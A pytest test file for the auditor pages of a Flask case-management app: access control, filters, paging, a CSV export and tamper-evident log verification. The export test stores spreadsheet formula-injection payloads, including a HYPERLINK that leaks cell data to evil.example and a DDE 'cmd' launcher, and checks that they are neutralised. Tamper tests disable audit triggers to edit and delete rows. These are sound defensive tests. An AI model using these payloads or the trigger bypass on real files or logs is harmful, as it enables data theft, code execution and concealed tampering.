"""Auditor pages: the event list with its filters and pages, the CSV export, chain verification, and who may not
reach them (everyone but the auditor gets an audited 404; anonymous visitors are sent to sign in)."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import datetime, timedelta
from typing import Any
from zoneinfo import ZoneInfo

import pytest
import sqlalchemy as sa
from flask import Flask
from flask.testing import FlaskClient

from app import audit
from app.access import policy_of
from app.audit import AuditEvent
from app.db import db

ISTANBUL = ZoneInfo("Europe/Istanbul")
AUDIT_ENDPOINTS = {"audit.list_events": "/audit/", "audit.export_events": "/audit/export.csv",
                   "audit.verify_log": "/audit/verify"}

AYSE = audit.Actor("11111111-1111-4111-8111-111111111111", "ayşe.çelik@örnek.org", "counsellor", "BYK")
FATMA = audit.Actor("22222222-2222-4222-8222-222222222222", "fatma_k@example.org", "supervisor", "KDK")


def _record(app: Flask, action: str = "cases.view", *, actor: audit.Actor = AYSE, **kwargs: Any) -> int:
    with app.app_context():
        event = audit.record(action, actor=actor, **kwargs)
        db.session.commit()
        return event.seq


def _seqs(html: str) -> list[int]:
    return [int(s) for s in re.findall(r'data-seq="(\d+)"', html)]


def _events(app: Flask, action: str) -> list[AuditEvent]:
    with app.app_context():
        rows = db.session.scalars(sa.select(AuditEvent).where(AuditEvent.action == action)
                                  .order_by(AuditEvent.seq)).all()
        db.session.expunge_all()
        return list(rows)


@pytest.fixture
def auditor(client: FlaskClient, make_user: Any, login_as: Any) -> FlaskClient:
    client.environ_base["HTTP_ACCEPT_LANGUAGE"] = "en"  # the assertions read the English messages
    login_as(client, make_user("auditor", email="denetci@example.org"))
    return client


def _csv(response: Any) -> list[list[str]]:
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbf"), "no UTF-8 BOM (Excel would garble Turkish letters)"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


# --- who may reach the pages ----------------------------------------------------------------------------------


def test_every_audit_view_declares_the_auditor_policy(app: Flask) -> None:
    endpoints = {rule.endpoint for rule in app.url_map.iter_rules() if rule.endpoint.startswith("audit.")}
    assert endpoints == set(AUDIT_ENDPOINTS)
    for endpoint in endpoints:
        assert policy_of(app, endpoint) == "roles:auditor"


@pytest.mark.parametrize("url", AUDIT_ENDPOINTS.values())
def test_anonymous_visitors_are_sent_to_sign_in(client: FlaskClient, url: str) -> None:
    r = client.get(url)
    assert r.status_code == 302
    assert r.headers["Location"].split("?")[0].endswith("/login")


@pytest.mark.parametrize("role", ["counsellor", "coordinator", "supervisor", "admin"])
def test_other_roles_get_an_audited_404(app: Flask, client: FlaskClient, make_user: Any, login_as: Any,
                                        role: str) -> None:
    user = make_user(role)
    login_as(client, user)
    for endpoint, url in AUDIT_ENDPOINTS.items():
        r = client.get(url)
        assert r.status_code == 404, (role, url)
        denials = _events(app, f"view.{endpoint}")
        assert [(e.actor_email, e.actor_role, e.outcome) for e in denials] == [(user.email, role, "denied")]
    assert _events(app, "audit.export") == []
    assert _events(app, "audit.verify") == []


# --- the event list -------------------------------------------------------------------------------------------


def test_auditor_sees_events_without_names(app: Flask, auditor: FlaskClient, make_user: Any, page: Any) -> None:
    counsellor = make_user("counsellor", name="Zeynep Kayagöz İşaret")
    with app.app_context():
        from app.users.models import User

        user = db.session.get(User, counsellor.id)
        audit.record("cases.view", actor=user, object_type="cases",
                     object_id="5a1f3c9e-7d2b-4e8a-9c61-0f3b2a4d5e6f", case_number="BYK-2026-0042")
        audit.record("cases.break-glass", actor=user, object_type="cases", case_number="BYK-2026-0043",
                     reason="Danışman izinde, kadın kapıda")
        audit.record("cases.view", actor=user, outcome=audit.Outcome.DENIED, case_number="BYK-2026-0044")
        db.session.commit()
        occurred = db.session.scalar(sa.select(AuditEvent.occurred_at).where(
            AuditEvent.case_number == "BYK-2026-0042"))
    html = page(auditor, "/audit/").get_data(as_text=True)
    assert counsellor.email in html
    assert "BYK-2026-0042" in html and "BYK-2026-0043" in html
    assert "Danışman izinde, kadın kapıda" in html
    assert "5a1f3c9e…" in html  # object ids are shortened; the full id is in the title
    assert occurred is not None
    local = occurred.astimezone(ISTANBUL)  # Istanbul time, not UTC; the day as every page writes it
    assert f"{local:%B} {local.day}, {local.year} {local:%H:%M:%S}" in html
    assert "Zeynep Kayagöz İşaret" not in html  # audit rows hold no names
    break_glass_rows = re.findall(r'<tr class="audit-row[^"]*audit-row--break-glass[^"]*"', html)
    assert len(break_glass_rows) == 1
    assert 'class="badge badge--danger"' in html  # the denial and the break-glass are highlighted
    seqs = _seqs(html)
    assert seqs == sorted(seqs, reverse=True)  # newest first


def _filter(client: FlaskClient, **query: str) -> tuple[int, str]:
    r = client.get("/audit/", query_string=query)
    assert r.status_code == 200, (query, r.status_code)
    return r.status_code, r.get_data(as_text=True)


def test_filters(app: Flask, auditor: FlaskClient) -> None:
    a1 = _record(app, "cases.view", case_number="BYK-2026-0001")
    a2 = _record(app, "cases.break-glass", case_number="BYK-2026-0002", reason="acil")
    f1 = _record(app, "cases.view", actor=FATMA, outcome=audit.Outcome.DENIED, case_number="KDK-2026-0001")
    f2 = _record(app, "users.create", actor=FATMA, outcome=audit.Outcome.FAILURE)

    def seqs(**query: str) -> set[int]:
        return set(_seqs(_filter(auditor, **query)[1])) & {a1, a2, f1, f2}

    assert seqs() == {a1, a2, f1, f2}
    assert seqs(user="ayşe.çelik@örnek.org") == {a1, a2}  # exact, with Turkish letters
    assert seqs(user="ayşe") == {a1, a2}  # prefix
    assert seqs(user="AYŞE") == {a1, a2}  # emails are stored lower-case
    assert seqs(user="fatma_") == {f1, f2}
    assert seqs(user="fatma%") == set()  # LIKE wildcards are literal
    assert seqs(user="%") == set()
    assert seqs(action="cases.break-glass") == {a2}
    assert seqs(action="cases.") == {a1, a2, f1}
    assert seqs(action="users") == {f2}
    assert seqs(case_number="BYK-2026-0002") == {a2}
    assert seqs(case_number="byk-2026-0002") == {a2}
    assert seqs(case_number="BYK-2026") == set()  # case numbers match exactly
    assert seqs(outcome="denied") == {f1}
    assert seqs(outcome="failure") == {f2}
    assert seqs(outcome="success") == {a1, a2}
    assert seqs(user="fatma", outcome="denied") == {f1}
    today = datetime.now(ISTANBUL).date()
    assert seqs(date_from=today.isoformat(), date_to=today.isoformat()) == {a1, a2, f1, f2}
    assert seqs(date_from=(today + timedelta(days=1)).isoformat()) == set()
    assert seqs(date_to=(today - timedelta(days=1)).isoformat()) == set()


def test_dates_are_istanbul_days(app: Flask, auditor: FlaskClient) -> None:
    """An event at 22:30 UTC on 1 March is on 2 March in Istanbul (UTC+3)."""
    seq = _record(app, "cases.view", case_number="BYK-2026-0100")
    # The filter reads occurred_at only; move the event to a known instant (triggers off, as in the tamper tests).
    with app.app_context(), db.engine.begin() as conn:
        if conn.dialect.name == "sqlite":
            conn.execute(sa.text("DROP TRIGGER IF EXISTS audit_events_no_update"))
        else:
            conn.execute(sa.text("ALTER TABLE audit_events DISABLE TRIGGER USER"))
        conn.execute(sa.update(AuditEvent).where(AuditEvent.seq == seq)
                     .values(occurred_at=datetime(2026, 3, 1, 22, 30, tzinfo=ZoneInfo("UTC"))))

    def seqs(**query: str) -> set[int]:
        return set(_seqs(_filter(auditor, **query)[1])) & {seq}

    assert seqs(date_from="2026-03-02", date_to="2026-03-02") == {seq}
    assert seqs(date_from="2026-03-01", date_to="2026-03-01") == set()
    assert seqs(date_to="2026-03-01") == set()
    assert seqs(date_from="2026-03-03") == set()
    assert "March 2, 2026 01:30:00" in _filter(auditor, case_number="BYK-2026-0100")[1]


@pytest.mark.parametrize("query, message", [
    ({"date_from": "abc"}, "Not a valid date value"),
    ({"date_to": "2026-13-45"}, "Not a valid date value"),
    ({"date_from": "2026-05-02", "date_to": "2026-05-01"}, "The end date must be on or after the start date."),
    ({"date_from": "0001-01-01"}, "Enter a date between 2000 and 2999."),
    ({"date_to": "9999-12-31"}, "Enter a date between 2000 and 2999."),
    ({"user": "a" * 10_000}, "Field cannot be longer than 254 characters."),
    ({"date_from": "1" * 10_000}, "Not a valid date value"),
    ({"action": "x" * 61}, "Field cannot be longer than 60 characters."),
    ({"case_number": "BYK\x00"}, "Remove the control characters."),
    ({"user": "a\x00b@example.org"}, "Remove the control characters."),
    ({"outcome": "maybe"}, "Not a valid choice"),
])
def test_malformed_filters_give_form_errors_not_500(app: Flask, auditor: FlaskClient, query: dict[str, str],
                                                     message: str) -> None:
    _record(app, "cases.view", case_number="BYK-2026-0001")
    r = auditor.get("/audit/", query_string=query)
    assert r.status_code == 422
    html = r.get_data(as_text=True)
    assert message in html
    assert "There is a problem" in html
    assert _seqs(html) == []  # no results under an invalid filter
    r = auditor.get("/audit/export.csv", query_string=query)
    assert r.status_code == 422
    assert _events(app, "audit.export") == []


@pytest.mark.parametrize("cursor", ["abc", "-5", "0", str(10**30), "9" * 5000, "1.5", "\x00"])
def test_malformed_page_cursors_are_ignored(app: Flask, auditor: FlaskClient, cursor: str) -> None:
    seq = _record(app)
    for name in ("before", "after"):
        r = auditor.get("/audit/", query_string={name: cursor})
        assert r.status_code == 200
        assert seq in _seqs(r.get_data(as_text=True))


def test_pages_of_fifty_newest_first(app: Flask, auditor: FlaskClient) -> None:
    with app.app_context():
        for i in range(120):
            audit.record("cases.view", actor=AYSE, case_number=f"BYK-2026-{i:04d}")
        db.session.commit()
    query = {"user": "ayşe"}
    first = auditor.get("/audit/", query_string=query).get_data(as_text=True)
    page1 = _seqs(first)
    assert len(page1) == 50 and page1 == sorted(page1, reverse=True)
    older = re.search(r'href="([^"]+)" rel="next"', first)
    assert older and 'rel="prev"' not in first
    second = auditor.get(older.group(1).replace("&amp;", "&")).get_data(as_text=True)
    page2 = _seqs(second)
    assert len(page2) == 50 and max(page2) < min(page1)
    third_link = re.search(r'href="([^"]+)" rel="next"', second)
    assert third_link
    third = auditor.get(third_link.group(1).replace("&amp;", "&")).get_data(as_text=True)
    page3 = _seqs(third)
    assert len(page3) == 20 and 'rel="next"' not in third
    assert len(set(page1) | set(page2) | set(page3)) == 120
    assert "user=ay" in third_link.group(1)  # filters survive paging
    newer = re.search(r'href="([^"]+)" rel="prev"', third)
    assert newer
    assert _seqs(auditor.get(newer.group(1).replace("&amp;", "&")).get_data(as_text=True)) == page2


# --- CSV export -----------------------------------------------------------------------------------------------


def test_export_is_a_safe_csv_and_is_audited(app: Flask, auditor: FlaskClient) -> None:
    _record(app, "cases.view", case_number="BYK-2026-0001", reason='=HYPERLINK("http://evil.example/?"&A1,"x")')
    _record(app, "cases.view", case_number="BYK-2026-0002", reason="  +cmd|' /C calc'!A0")
    _record(app, "cases.view", case_number="BYK-2026-0003", reason="@SUM(1+1)")
    _record(app, "cases.view", case_number="BYK-2026-0004", reason="\t-2+3")
    _record(app, "cases.view", case_number="BYK-2026-0005", reason="Şiddet önleme; normal metin")
    _record(app, "users.create", actor=FATMA)
    r = auditor.get("/audit/export.csv", query_string={"action": "cases.", "user": "ayşe"})
    assert r.status_code == 200
    assert r.mimetype == "text/csv"
    today = datetime.now(ISTANBUL).strftime("%Y%m%d")
    assert r.headers["Content-Disposition"] == f"attachment; filename=audit-{today}.csv"
    assert "no-store" in r.headers["Cache-Control"]
    rows = _csv(r)
    header, body = rows[0], rows[1:]
    assert header[:4] == ["Sequence", "Time (Europe/Istanbul)", "Time (UTC)", "User email"]
    assert len(body) == 5
    by_case = {row[header.index("Case number")]: row for row in body}
    reason = header.index("Reason")
    assert by_case["BYK-2026-0001"][reason].startswith("'=HYPERLINK(")
    assert by_case["BYK-2026-0002"][reason] == "'  +cmd|' /C calc'!A0"
    assert by_case["BYK-2026-0003"][reason] == "'@SUM(1+1)"
    assert by_case["BYK-2026-0004"][reason] == "'\t-2+3"
    assert by_case["BYK-2026-0005"][reason] == "Şiddet önleme; normal metin"
    assert {row[header.index("User email")] for row in body} == {AYSE.email}
    for row in body:
        for cell in row:
            assert cell.lstrip()[:1] not in ("=", "+", "-", "@"), cell
    seqs = [int(row[0]) for row in body]
    assert seqs == sorted(seqs, reverse=True)

    (export,) = _events(app, "audit.export")
    assert export.actor_email == "denetci@example.org"
    assert export.actor_role == "auditor"
    assert '"rows": 5' in (export.details or "")
    assert '"user": "ayşe"' in (export.details or "") and '"action": "cases."' in (export.details or "")


def test_export_does_not_include_itself_and_counts_what_it_sends(app: Flask, auditor: FlaskClient) -> None:
    for _ in range(3):
        _record(app)
    rows = _csv(auditor.get("/audit/export.csv"))[1:]
    (export,) = _events(app, "audit.export")
    assert f'"rows": {len(rows)}' in (export.details or "")
    assert export.seq not in {int(r[0]) for r in rows}
    # The next export sees the first one.
    rows = _csv(auditor.get("/audit/export.csv", query_string={"action": "audit.export"}))[1:]
    assert [int(r[0]) for r in rows] == [export.seq]


def test_export_streams_in_batches_and_is_capped(app: Flask, auditor: FlaskClient,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    from app import audit_views

    monkeypatch.setattr(audit_views, "EXPORT_BATCH", 7)
    monkeypatch.setattr(audit_views, "EXPORT_CAP", 30)
    with app.app_context():
        for i in range(45):
            audit.record("cases.view", actor=AYSE, case_number=f"BYK-2026-{i:04d}")
        db.session.commit()
    r = auditor.get("/audit/export.csv", query_string={"action": "cases.view"})
    assert r.is_streamed
    seqs = [int(row[0]) for row in _csv(r)[1:]]
    assert len(seqs) == 30 and seqs == sorted(seqs, reverse=True) and len(set(seqs)) == 30
    (export,) = _events(app, "audit.export")
    assert '"rows": 30' in (export.details or "") and '"capped": true' in (export.details or "")
    page = auditor.get("/audit/").get_data(as_text=True)
    assert "newest 30 matching events at most" in page  # the cap is stated on the page


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    (" =1", "' =1"), ("\u00a0\u3000=1", "'\u00a0\u3000=1"), ("a=1", "a=1"), ("", ""), (None, ""), (42, "42"),
    ("BYK-2026-0001", "BYK-2026-0001"), ("ayşe@örnek.org", "ayşe@örnek.org"),
])
def test_neutralise_cell(value: Any, expected: str) -> None:
    from app.audit_views import neutralise_cell

    assert neutralise_cell(value) == expected


# --- verification ---------------------------------------------------------------------------------------------


def test_verify_page_reports_intact_and_is_audited(app: Flask, auditor: FlaskClient, page: Any) -> None:
    for _ in range(4):
        _record(app)
    with app.app_context():
        count = db.session.scalar(sa.select(sa.func.count()).select_from(AuditEvent))
    html = page(auditor, "/audit/verify").get_data(as_text=True)
    assert f"The audit log is intact ({count} events)." in html
    (event,) = _events(app, "audit.verify")
    assert event.outcome == "success" and event.actor_email == "denetci@example.org"
    with app.app_context():
        assert audit.verify_chain(db.session(), app.extensions["dayanisma.audit_key"]) is None


def test_verify_page_names_the_first_bad_event(app: Flask, auditor: FlaskClient, page: Any) -> None:
    _record(app)
    bad = _record(app, case_number="BYK-2026-0001")
    _record(app)
    with app.app_context(), db.engine.begin() as conn:
        if conn.dialect.name == "sqlite":
            conn.execute(sa.text("DROP TRIGGER IF EXISTS audit_events_no_update"))
        else:
            conn.execute(sa.text("ALTER TABLE audit_events DISABLE TRIGGER USER"))
        conn.execute(sa.text("UPDATE audit_events SET case_number = 'BYK-2026-0002' WHERE seq = :s"), {"s": bad})
    html = page(auditor, "/audit/verify").get_data(as_text=True)
    assert "The audit log is broken." in html
    assert f"<dd>{bad}</dd>" in html
    assert "hash mismatch (the event was edited)" in html
    (event,) = _events(app, "audit.verify")
    assert event.outcome == "failure" and event.reason == "hash mismatch (the event was edited)"


def _head(app: Flask) -> str:
    with app.app_context():
        anchor = audit.current_anchor(db.session())
        db.session.rollback()
    assert anchor is not None
    return str(anchor)


def test_verify_page_shows_an_anchor_that_a_later_check_finds(app: Flask, auditor: FlaskClient, page: Any) -> None:
    _record(app)
    html = page(auditor, "/audit/verify").get_data(as_text=True)
    shown = re.search(r'<code id="audit-anchor"[^>]*>(\d+:[0-9a-f]{64})</code>', html)
    assert shown is not None
    _record(app)  # the log grows; the old anchor stays valid
    html = page(auditor, "/audit/verify?anchor=" + shown.group(1)).get_data(as_text=True)
    assert "The audit log is intact" in html
    seq = int(shown.group(1).split(":")[0])
    assert f"The log still holds the anchored event {seq} exactly as it was" in html
    event = _events(app, "audit.verify")[-1]
    assert event.outcome == "success"
    assert json.loads(event.details or "{}")["anchor_seq"] == seq


def test_verify_page_with_an_anchor_catches_a_deleted_tail(app: Flask, auditor: FlaskClient, page: Any) -> None:
    for _ in range(3):
        _record(app)
    anchor = _head(app)
    seq = int(anchor.split(":")[0])
    with app.app_context(), db.engine.begin() as conn:  # delete the tail and wind the head back, as a tamperer would
        if conn.dialect.name == "sqlite":
            conn.execute(sa.text("DROP TRIGGER IF EXISTS audit_events_no_delete"))
        else:
            conn.execute(sa.text("ALTER TABLE audit_events DISABLE TRIGGER USER"))
        conn.execute(sa.text("DELETE FROM audit_events WHERE seq > :s"), {"s": seq - 2})
        conn.execute(sa.text("UPDATE audit_head SET seq = :s, hash = (SELECT hash FROM audit_events WHERE seq = :s)"
                             " WHERE id = 1"), {"s": seq - 2})
    html = page(auditor, "/audit/verify").get_data(as_text=True)
    assert "The audit log is intact" in html  # without the anchor the shortened log looks fine
    html = page(auditor, "/audit/verify?anchor=" + anchor).get_data(as_text=True)
    assert "The audit log is broken." in html
    assert f"the log no longer holds anchored event seq {seq}" in html
    assert 'id="audit-anchor"' not in html  # a broken log gets no new anchor
    event = _events(app, "audit.verify")[-1]
    assert event.outcome == "failure" and json.loads(event.details or "{}")["anchor_seq"] == seq


@pytest.mark.parametrize("bad", ["12", "x:" + "0" * 64, "3:" + "z" * 64, "9" * 30 + ":" + "0" * 64,
                                 "3:" + "0" * 64 + "\x00", "İ" * 500])
def test_verify_page_explains_a_malformed_anchor(app: Flask, auditor: FlaskClient, page: Any, bad: str) -> None:
    _record(app)
    response = page(auditor, "/audit/verify", status=422, query_string={"anchor": bad})
    html = response.get_data(as_text=True)
    assert "Enter the anchor as it was shown" in html or "characters" in html
    assert "The audit log is intact" not in html and "recorded in the log" not in html
    assert _events(app, "audit.verify") == []


# --- what the page says (issue 16 §4) -------------------------------------------------------------------------


def test_actions_roles_and_refusals_read_as_words_in_turkish(app: Flask, auditor: FlaskClient) -> None:
    auditor.environ_base["HTTP_ACCEPT_LANGUAGE"] = "tr"
    bed = _record(app, "data.shelter_bed_assignments.update", object_type="shelter_bed_assignments",
                  object_id="5a1f3c9e-7d2b-4e8a-9c61-0f3b2a4d5e6f")
    refused = _record(app, "case.view", outcome=audit.Outcome.DENIED, reason="not in case",
                      actor=audit.Actor("33333333-3333-4333-8333-333333333333", "d@example.org", "auditor", None))
    unknown = _record(app, "something.new", case_number="BYK-2026-0009")
    html = _filter(auditor)[1]
    rows = {int(seq): row for seq, row in re.findall(r'data-seq="(\d+)">(.*?)</tr>', html, re.S)}
    assert "Değiştirildi: yatak ataması" in rows[bed]
    assert 'title="data.shelter_bed_assignments.update"' in rows[bed]  # the code stays at hand
    assert ">data.shelter_bed_assignments.update<" not in rows[bed]
    assert "Dosya görüntülendi" in rows[refused] and "Denetçi" in rows[refused]
    assert "Reddedildi" in rows[refused] and "Bu dosyanın parçası değil" in rows[refused]
    assert re.search(r">\s*auditor\s*<", rows[refused]) is None and "not in case" not in rows[refused]
    assert "something.new" in rows[unknown]  # a label never hides an event
    # The filter keeps codes (the datalist shows their labels beside them).
    assert '<option value="data.shelter_bed_assignments.update">Değiştirildi: yatak ataması</option>' in html


def test_every_action_code_in_the_code_has_a_label() -> None:
    """Each literal code passed to audit.record / access.deny, and each access decision of a scoped view
    (case_access / shelter_access), has words in ACTION_LABELS: a new code must be labelled on purpose."""
    from pathlib import Path

    from app.audit_labels import ACTION_LABELS, action_label

    root = Path(__file__).resolve().parents[2]
    codes: set[str] = set()
    for package in ("app", "cases", "shelters"):
        for path in (root / package).rglob("*.py"):
            text = path.read_text(encoding="utf-8")
            codes |= set(re.findall(r'(?:audit\.record|access\.deny|_on_record\(case,)\(?\s*"([a-z_]+\.[a-z_.-]+)"',
                                    text))
            codes |= {f"case.{a}" for a in re.findall(r'case_access\("([a-z-]+)"', text)}
            codes |= {f"shelter.{a}" for a in re.findall(r'shelter_access\("([a-z-]+)"', text)}
    codes = {c for c in codes if not c.endswith("-")}
    assert len(codes) >= 60
    missing = sorted(c for c in codes if c not in ACTION_LABELS)
    assert missing == []
    assert action_label("data.cases.update") != "data.cases.update"
    assert action_label("data.no_such_table.delete").endswith("no_such_table")


def test_large_numbers_are_grouped_in_the_readers_language(app: Flask, auditor: FlaskClient) -> None:
    _record(app)
    assert "100,000 matching events" in _filter(auditor)[1]
    auditor.environ_base["HTTP_ACCEPT_LANGUAGE"] = "tr"
    html = _filter(auditor)[1]
    assert "100.000" in html and "100000" not in html and "100,000" not in html
